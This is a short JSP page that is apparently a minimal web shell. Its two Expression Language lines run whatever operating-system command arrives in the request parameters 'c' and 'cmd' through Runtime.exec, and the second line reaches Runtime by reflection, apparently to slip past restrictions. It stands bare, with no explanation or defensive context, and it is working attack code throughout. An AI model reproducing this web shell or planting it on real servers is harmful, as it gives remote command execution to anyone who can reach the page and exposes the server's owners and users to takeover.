<%@ page isELIgnored="false" contentType="text/plain" %>
${Runtime.getRuntime().exec(param.c)}
${"".getClass().forName("java.lang.Runtime").getMethod("exec", "".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), param.cmd)}
